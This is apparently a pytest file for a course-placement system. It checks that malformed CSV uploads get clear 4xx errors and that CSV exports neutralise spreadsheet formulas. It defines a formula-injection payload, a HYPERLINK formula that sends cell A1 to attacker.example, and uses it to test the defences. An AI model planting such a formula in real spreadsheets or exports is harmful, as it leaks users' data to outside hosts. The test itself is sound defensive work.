"""CSV in and out: malformed uploads to progress get a clear 4xx naming the problem (never a
5xx), and every CSV export of the system neutralises spreadsheet formulas."""

from __future__ import annotations

import csv
import importlib
import io

import pytest

from ankommen.shared.identity.auth import Role
from ankommen.shared.spreadsheet import FORMULA_STARTS
from tests.assignment.support import course_body
from tests.support.figures import record
from tests.support.services import in_process, settings_for, token
from tests.support.statistics import every_table

pytestmark = pytest.mark.reliability

HEADER = "report_id;referral_code;kind;datum\n"
INJECTION = '=HYPERLINK("http://attacker.example/?leak="&A1;"Klick")'
#: Every CSV export, and the test that checks it (a new export fails the inventory test).
CSV_EXPORTS = {("assignment", "GET", "/course-list.csv"),
               ("monitoring", "GET", "/statistics/{measure}.csv")}


def malformed_uploads() -> dict[str, tuple[bytes, int, str]]:
    """name → (file, expected status, words the error must contain)."""
    return {
        "utf-16": (("\ufeff" + HEADER + "r1;REF-1;anmeldung;01.10.2026\n").encode("utf-16-le"),
                   422, "utf-16"),
        "excel workbook": (b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 64, 422, "excel workbook"),
        "missing columns": (b"report_id;datum\nr1;01.10.2026\n", 422, "missing column"),
        "empty": (b"", 422, "empty"),
        "only blank lines": (b"\n\n\n", 422, "missing column"),
        "broken quoting": (HEADER.encode() + b'r1;"REF-1;anmeldung;01.10.2026\n' * 2 +
                           b'\x85"\x85;\n', 200, ""),
        "50 MB": (HEADER.encode() + b"r1;REF-1;anmeldung;01.10.2026\n" * (50 * 1024 * 1024 // 31),
                  413, "too large"),
    }


async def test_malformed_uploads_get_a_clear_4xx_never_a_server_error(kafka, sqlite_databases):  # noqa: ANN001
    provider = token(Role.PROVIDER, "vhs-a")
    answers = {}
    async with in_process("progress", bootstrap=kafka.bootstrap_servers,
                          database_url=await sqlite_databases.url("progress")) as progress:
        for name, (content, _, _) in malformed_uploads().items():
            answers[name] = await progress.client.post(
                "/reports/csv", headers=provider, files={"file": ("liste.csv", content)})
        extra = await progress.client.post("/reports/csv", headers=provider, files={
            "file": ("liste.csv", (HEADER.rstrip() + ";raum;bemerkung\n"
                                   "r1;REF-1;anmeldung;01.10.2026;12;ok\n").encode())})
        injected = await progress.client.post("/reports/csv", headers=provider, files={
            "file": ("liste.csv", (HEADER + f"r2;{INJECTION};anmeldung;01.10.2026\n"
                                   f"{INJECTION};REF-1;{INJECTION};01.10.2026\n").encode())})
    for name, (_, status, words) in malformed_uploads().items():
        answer = answers[name]
        assert answer.status_code == status, (name, answer.text[:300])
        assert words in answer.text.lower(), (name, answer.text[:300])
        if status != 200:
            assert answer.headers["content-type"].startswith("application/problem+json")
    # Columns a list carries besides ours are ignored; each row is judged on its own.
    assert extra.status_code == 200 and len(extra.json()["rejected"]) == 1, extra.text
    assert "referral_code" in extra.text  # REF-1 is no placement of vhs-a: named per row
    # Formulas are data: refused row by row with the field named, never evaluated or a 5xx.
    assert injected.status_code == 200 and len(injected.json()["rejected"]) == 2, injected.text
    record("fuzzing", "malformed CSV uploads (kinds)", len(answers) + 2)


def test_every_csv_export_is_known_and_tested():
    found = set()
    for service in ("intake", "assignment", "progress", "monitoring"):
        app = importlib.import_module(f"ankommen.{service}.app").create_app(
            settings_for(service, database_url="sqlite+aiosqlite://"))
        for path, operations in app.openapi()["paths"].items():
            for method, operation in operations.items():
                contents = {media for answer in operation.get("responses", {}).values()
                            for media in answer.get("content", {})}
                if path.endswith(".csv") or "text/csv" in contents:
                    found.add((service, method.upper(), path))
    assert found == CSV_EXPORTS, found
    record("fuzzing", "CSV exports checked for formula injection", len(found))


def cells_of(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


async def test_course_list_csv_neutralises_formulas(kafka, sqlite_databases):  # noqa: ANN001
    coordinator = token(Role.COORDINATOR)
    async with in_process("assignment", bootstrap=kafka.bootstrap_servers,
                          database_url=await sqlite_databases.url("assignment")) as assignment:
        for number, title in enumerate((INJECTION, "+49 Kurs", "-Kurs", "@SUM(A1)",
                                        "Integrationskurs")):
            published = await assignment.client.post("/courses", headers=coordinator, json=(
                course_body(f"course-{number}", "vhs-a", title=title)))
            assert published.status_code == 201, published.text
        # A tab (or carriage return) is a control character: refused at the door
        # (ankommen.shared.text), before any export could show it.
        tab = await assignment.client.post("/courses", headers=coordinator, json=(
            course_body("course-tab", "vhs-a", title="\tKurs")))
        exported = await assignment.client.get("/course-list.csv", headers=coordinator)
    assert tab.status_code == 422 and tab.json()["errors"][0]["field"] == "title", tab.text
    assert exported.status_code == 200
    cells = cells_of(exported.text)
    assert "'" + INJECTION in cells and "Integrationskurs" in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


async def test_statistics_csv_neutralises_formulas(kafka, sqlite_databases):  # noqa: ANN001
    """Monitoring's labels come from fixed vocabularies; every cell is still written through
    the same neutraliser, checked here on every catalogue table's export."""
    async with in_process("monitoring", bootstrap=kafka.bootstrap_servers,
                          database_url=await sqlite_databases.url("monitoring")) as monitoring:
        catalogue = (await monitoring.client.get("/statistics")).json()
        exports = [await monitoring.client.get(path)
                   for path in every_table(catalogue, suffixes=(".csv",))]
    assert exports and all(export.status_code == 200 for export in exports)
    for export in exports:
        assert not [cell for cell in cells_of(export.text) if cell.startswith(FORMULA_STARTS)]
